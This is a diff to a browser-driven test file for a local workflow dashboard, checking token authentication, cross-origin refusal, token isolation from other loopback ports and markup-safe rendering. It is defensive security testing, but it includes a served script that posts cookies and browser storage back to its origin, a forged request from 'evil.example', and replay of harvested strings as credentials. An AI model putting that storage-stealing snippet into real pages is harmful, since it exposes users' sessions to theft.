@@ -1,8 +1,9 @@
 // The dashboard in a real browser (Debian's chromium driven by playwright-core, no
 // browser download): open the page with the token, watch a stand-in workflow move
 // live, edit the components and approve, see the state change; no token → 401; a
-// cross-origin POST is refused; and a whole workflow steered from the page alone
-// (stop, resume, approve, retry, merge again). Without chromium the tests are
+// cross-origin POST is refused; a whole workflow steered from the page alone (stop,
+// resume, approve, retry, merge again); the token never reaches another loopback
+// port; values from state that are no class names. Without chromium the tests are
 // skipped with one line saying how to enable them.
 import { execFileSync, spawnSync } from 'node:child_process';
 import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
@@ -10,6 +11,9 @@ import { createServer, type Server } from 'node:http';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { startDashboard, type Dashboard } from '../../dashboard/server.js';
+import { parseJson } from '../../lib/json_doc.js';
+import { awaitingApproval, newProject } from './dashboard_fixtures.js';
+import { mutateState, projectStatePaths } from '../../lib/state_file.js';
 import { tempDir, ROOT } from './helpers.js';
 
 const CHROMIUM = process.env.ARGO_CHROMIUM || '/usr/bin/chromium';
@@ -19,6 +23,31 @@ if (!existsSync(CHROMIUM)) {
   console.log(`browser test skipped: no chromium at ${CHROMIUM}; to run it: apt-get install -y chromium (or set ARGO_CHROMIUM=/path/to/chromium)`);
 } else if (!built) {
   console.log('browser test skipped: no build in dist/; to run it: npm run build');
+}
+
+/** Records everything a server on another loopback port receives, and serves it a page. */
+interface Seen {
+  method: string;
+  url: string;
+  headers: Record<string, unknown>;
+  body: string;
+}
+async function recordingServer(cleanups: (() => Promise<void> | void)[]): Promise<{ port: number; seen: Seen[] }> {
+  const seen: Seen[] = [];
+  const server = createServer((q, r) => {
+    const chunks: Buffer[] = [];
+    q.on('data', (c: Buffer) => chunks.push(c));
+    q.on('end', () => {
+      seen.push({ method: q.method ?? '', url: q.url ?? '', headers: { ...q.headers }, body: Buffer.concat(chunks).toString('utf8') });
+      // Its page reports whatever this origin can read of the browser back to its server.
+      r.writeHead(200, { 'content-type': 'text/html' }).end(
+        `<p>elsewhere</p><script>fetch('/report', {method: 'POST', body: JSON.stringify({cookie: document.cookie, session: {...sessionStorage}, local: {...localStorage}, referrer: document.referrer})}).then(() => document.body.dataset.reported = '1')</script>`,
+      );
+    });
+  });
+  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
+  cleanups.push(() => new Promise<void>((r) => server.close(() => r())));
+  return { port: (server.address() as { port: number }).port, seen };
 }
 
 const FLAGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run', '--disable-sync'];
@@ -77,16 +106,18 @@ describe.skipIf(!haveChromium)('dashboard in chromium', () => {
     cleanups.push(() => dash.close());
     const base = `http://127.0.0.1:${dash.port}`;
 
-    // No token, no answer.
-    expect((await fetch(`${base}/`)).status).toBe(401);
+    // No token, no data: the page itself holds none and is served to anyone.
+    expect((await fetch(`${base}/`)).status).toBe(200);
     expect((await fetch(`${base}/api/projects`)).status).toBe(401);
     expect((await fetch(`${base}/api/events`)).status).toBe(401);
+    expect((await fetch(`${base}/api/events?token=wrong`)).status).toBe(401);
 
     const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
     cleanups.push(() => browser.close());
     const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
     await page.goto(dash.url);
-    expect(new URL(page.url()).search).toBe(''); // the token left the address bar for a cookie
+    expect(new URL(page.url()).hash).toBe(''); // the token left the address bar (kept in the page)
+    expect(new URL(page.url()).search).toBe('');
     await page.locator('#projects li[data-id]').first().waitFor();
     await page.locator('#phase', { hasText: 'init' }).waitFor();
 
@@ -126,7 +157,7 @@ describe.skipIf(!haveChromium)('dashboard in chromium', () => {
     const attempt = await evil.evaluate(async ([url, token]) => {
       const results: string[] = [];
       for (const init of [
-        { method: 'POST', credentials: 'include' as const, headers: { 'x-argo-token': token!, 'content-type': 'application/json' }, body: '{}' },
+        { method: 'POST', credentials: 'include' as const, headers: { authorization: `Bearer ${token!}`, 'content-type': 'application/json' }, body: '{}' },
         { method: 'POST', credentials: 'include' as const, mode: 'no-cors' as const, body: '{}' },
       ]) {
         try {
@@ -143,7 +174,7 @@ describe.skipIf(!haveChromium)('dashboard in chromium', () => {
     // And from outside a browser: the right token but another Origin is refused.
     const forged = await fetch(`${base}/api/projects/${encodeURIComponent(id)}/merge`, {
       method: 'POST',
-      headers: { 'x-argo-token': 'browser-test-token-0123456789', origin: 'http://evil.example', cookie: 'argo_dashboard=browser-test-token-0123456789' },
+      headers: { authorization: 'Bearer browser-test-token-0123456789', origin: 'http://evil.example' },
       body: '{}',
     });
     expect(forged.status).toBe(403);
@@ -218,4 +249,107 @@ git add "$file" && git -c user.name=ci -c user.email=ci@ci commit -q -m "build $
     expect(s.merge.merged.sort()).toEqual(['a', 'b', 'c']);
     expect(s.execution.builders.map((b: { status: string }) => b.status)).toEqual(['completed', 'completed', 'completed']);
   }, 240_000);
+  it('the token reaches no other server on 127.0.0.1 or localhost, and what such a server sees cannot steer', async () => {
+    const { chromium } = await import('playwright-core');
+    const work = tempDir();
+    const env = { ...process.env, ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'), XDG_RUNTIME_DIR: join(work, 'run') };
+    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
+    const project = newProject(work, 'calc', env);
+    await awaitingApproval(project);
+    const TOKEN = 'isolation-token-0123456789abcdef';
+    const dash = await startDashboard({ host: '127.0.0.1', port: 0, token: TOKEN, root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
+    cleanups.push(() => dash.close());
+    expect(dash.url).toBe(`http://127.0.0.1:${dash.port}/#token=${TOKEN}`);
+    const base = `http://127.0.0.1:${dash.port}`;
+    const other = await recordingServer(cleanups);
+
+    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
+    cleanups.push(() => browser.close());
+    const context = await browser.newContext(); // one cookie jar and storage for every page below
+    const page = await context.newPage();
+    await page.goto(dash.url);
+    await page.locator('#phase', { hasText: 'design' }).waitFor();
+    await page.locator('#connection', { hasText: 'live' }).waitFor();
+    expect(page.url()).toBe(`${base}/`); // the fragment left the address bar
+    await page.reload(); // kept for this tab in its own origin's sessionStorage
+    await page.locator('#connection', { hasText: 'live' }).waitFor();
+    await page.locator('button[data-action="approve"]').waitFor();
+    expect(await context.cookies()).toEqual([]);
+
+    // The same browser visits another server on another port of the same host, by both names.
+    for (const host of ['127.0.0.1', 'localhost']) {
+      const tab = await context.newPage();
+      await tab.goto(`http://${host}:${other.port}/`);
+      await tab.locator('body[data-reported="1"]').waitFor();
+      await tab.close();
+    }
+    // And the dashboard's tab itself navigates there (what would a Referer or a cookie carry?).
+    await page.goto(`http://localhost:${other.port}/from-dashboard`);
+    await page.locator('body[data-reported="1"]').waitFor();
+    // The dashboard under another name is another origin: it has no token either.
+    await page.goto(`http://localhost:${dash.port}/`);
+    await page.locator('#connection', { hasText: 'no token' }).waitFor();
+
+    expect(other.seen.length).toBeGreaterThanOrEqual(6);
+    for (const r of other.seen) {
+      expect(r.headers.cookie).toBeUndefined();
+      expect(JSON.stringify(r)).not.toContain(TOKEN);
+    }
+
+    // Everything that server saw, used as a credential: refused, and nothing changes.
+    const stateFile = join(project, '.argo-project', 'state.json');
+    const before = readFileSync(stateFile, 'utf8');
+    const seenText = JSON.stringify(other.seen);
+    const candidates = [...new Set(seenText.match(/[A-Za-z0-9_-]{16,}/g) ?? [])];
+    const cookies = other.seen.map((r) => r.headers.cookie).filter((c): c is string => typeof c === 'string');
+    const id = (await (await fetch(`${base}/api/projects`, { headers: { authorization: `Bearer ${TOKEN}` } })).json()).projects[0].id;
+    for (const guess of ['', ...candidates]) {
+      const r = await fetch(`${base}/api/projects/${encodeURIComponent(id)}/approve`, {
+        method: 'POST',
+        headers: { origin: base, 'content-type': 'application/json', authorization: `Bearer ${guess}`, 'x-argo-token': guess, ...(cookies.length ? { cookie: cookies.join('; ') } : {}) },
+        body: JSON.stringify({ components: [{ id: 'pwned', description: 'from another port' }] }),
+      });
+      expect([401, 403]).toContain(r.status);
+    }
+    expect(readFileSync(stateFile, 'utf8')).toBe(before);
+  }, 120_000);
+
+  it('a builder status or merge value that is no class name: the page still renders it as text, and Stop still works', async () => {
+    const { chromium } = await import('playwright-core');
+    const work = tempDir();
+    const env = { ...process.env, ARGO_PROJECTS_REGISTRY: join(work, 'projects.json'), CI_COMMAND: join(ROOT, 'compat', 'standin_ci'), XDG_RUNTIME_DIR: join(work, 'run') };
+    process.env.ARGO_PROJECTS_REGISTRY = env.ARGO_PROJECTS_REGISTRY;
+    const project = newProject(work, 'odd', env);
+    const dash = await startDashboard({ host: '127.0.0.1', port: 0, token: 'odd-values-token', root: ROOT, registry: env.ARGO_PROJECTS_REGISTRY });
+    cleanups.push(() => dash.close());
+    const browser = await chromium.launch({ executablePath: CHROMIUM, args: FLAGS, chromiumSandbox: false, headless: true });
+    cleanups.push(() => browser.close());
+    const page = await browser.newPage();
+    const errors: string[] = [];
+    page.on('pageerror', (e) => errors.push(e.message));
+    await page.goto(dash.url);
+
+    expect(spawnSync(join(ROOT, 'start_workflow.sh'), ['Build odd things', project], { env }).status).toBe(0);
+    started.push(Number(readFileSync(join(project, '.argo-project', 'orchestrator.pid'), 'utf8')));
+    await page.locator('button[data-action="approve"]').waitFor({ timeout: 60_000 }); // the orchestrator waits for the user
+    const odd = 'bad value <b>x</b>';
+    await mutateState(projectStatePaths(project, {}), (doc) => {
+      doc.set(
+        'execution',
+        parseJson(JSON.stringify({ builders: [{ id: 'weird', status: odd, merge: 'also bad', started: null }, { id: 'dots', status: 'a.b#c', merge: { status: 'x y' } }] }), 'test'),
+      );
+    });
+    await page.locator('#builders tr[data-builder="weird"]').waitFor({ timeout: 15_000 });
+    expect(await page.locator('#builders tr[data-builder="weird"] td').nth(1).textContent()).toBe(odd);
+    expect(await page.locator('#builders tr[data-builder="weird"] td').nth(7).textContent()).toBe('also bad');
+    expect(await page.locator('#builders tr[data-builder="dots"] td').nth(1).textContent()).toBe('a.b#c');
+    expect(await page.locator('#builders b').count()).toBe(0); // data, never markup
+    expect(await page.locator('#c').count()).toBe(0); // nor an id
+    expect(await page.locator('#builders tr[data-builder="weird"] td').nth(1).getAttribute('class')).toBe('status s-other');
+
+    await page.locator('button[data-action="stop"]').click();
+    await page.locator('#orchestrator', { hasText: /^Not running/ }).waitFor({ timeout: 30_000 });
+    await page.locator('button[data-action="resume"]').waitFor();
+    expect(errors).toEqual([]);
+  }, 120_000);
 });
